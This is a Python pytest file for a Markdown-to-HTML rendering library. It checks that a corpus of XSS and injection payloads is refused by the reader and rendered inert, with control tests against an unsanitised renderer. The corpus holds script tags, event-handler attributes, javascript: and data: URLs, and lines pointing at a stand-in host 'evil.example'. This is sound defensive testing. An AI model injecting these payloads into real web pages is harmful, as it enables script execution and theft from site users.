"""Nothing that a text could carry reaches a reader as anything but words: refused by the reader, inert as HTML."""

import html
from html.parser import HTMLParser

import nh3
import pytest
from markdown_it import MarkdownIt

from heartport.library.bodies import read_body
from heartport.library.pages import RENDERER, TAGS, render_page

CORPUS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javas\tcript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//evil.example'</style>",
    "<form action=//evil.example><input name=q></form>",
    "<!-- <img src=x onerror=alert(1)> -->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](missing.png "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "[1]: javascript:alert(1)\n\n看[1]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|",
    '<p style="position:fixed" id=x class=y>',
    "{{7*7}}<%= 7*7 %>${alert(1)}<b>",
)
"""After the cheat sheets of OWASP and PortSwigger, and what Markdown adds to them."""
WORDS_ALONE = ("{{7*7}}", "${alert(1)}")


class Seen(HTMLParser):
    """Notes every tag and every attribute of a page."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[object] = []
        self.others: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def is_inert(text: str, tags: set[str] = TAGS) -> bool:
    seen = Seen(text)
    return seen.tags <= tags and not seen.attributes and not seen.others


@pytest.mark.parametrize("text", CORPUS)
def test_what_could_run_is_refused_by_the_reader_with_its_line(text: str) -> None:
    _, wrongs = read_body(f"第一段。\n\n{text}")
    assert wrongs
    assert all(each.line >= 3 for each in wrongs)


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("around", ["{}", "## {}", "- {}", "> {}", "1. {}", "**{}**"])
def test_what_could_run_is_inert_as_html_even_if_it_came_past_the_reader(text: str, around: str) -> None:
    assert is_inert(render_page(around.format(text)))


def test_control_without_sanitising_it_would_run_and_it_is_seen() -> None:
    careless = MarkdownIt("commonmark", {"html": True})
    seen = [each for each in CORPUS if not is_inert(careless.render(each))]
    assert len(seen) > len(CORPUS) / 2


def test_control_each_of_the_two_libraries_would_do_alone() -> None:
    """Neither leans on the other: broken in turn, the page stays inert."""
    assert all(is_inert(RENDERER.render(each), TAGS | {"em"}) for each in CORPUS)
    careless = MarkdownIt("commonmark", {"html": True})
    assert all(is_inert(nh3.clean(careless.render(each), tags=TAGS, attributes={})) for each in CORPUS)


def test_the_five_forms_are_what_they_look_like() -> None:
    text = "一句，\n接着一句。**要紧**[1]\n\n## 标题\n\n- 一\n- 二\n\n1. 先\n2. 后\n\n> 他说"
    assert render_page(text).replace("\n", "") == (
        "<p>一句，接着一句。<strong>要紧</strong>[1]</p><h2>标题</h2><ul><li>一</li><li>二</li></ul>"
        "<ol><li>先</li><li>后</li></ol><blockquote><p>他说</p></blockquote>"
    )


def test_html_and_blocks_say_the_same() -> None:
    """Two clients, one text."""
    from tests.library.shelves import shipped_library

    for thing in (*shipped_library().articles, *shipped_library().news):
        said = "".join(text.replace("**", "") for block in thing.blocks for text in block.texts)
        page = Words(render_page(thing.document["body"])).said
        assert page == said, thing.slug


class Words(HTMLParser):
    """Gathers what a page says."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.said = ""
        self.feed(text)
        self.close()

    def handle_data(self, data):
        self.said += data.strip("\n")


def test_signs_of_mathematics_stay_signs() -> None:
    assert Words(render_page("3 < 5 & 7 > 2")).said == "3 < 5 & 7 > 2"
    assert html.escape("<") in render_page("3 < 5")
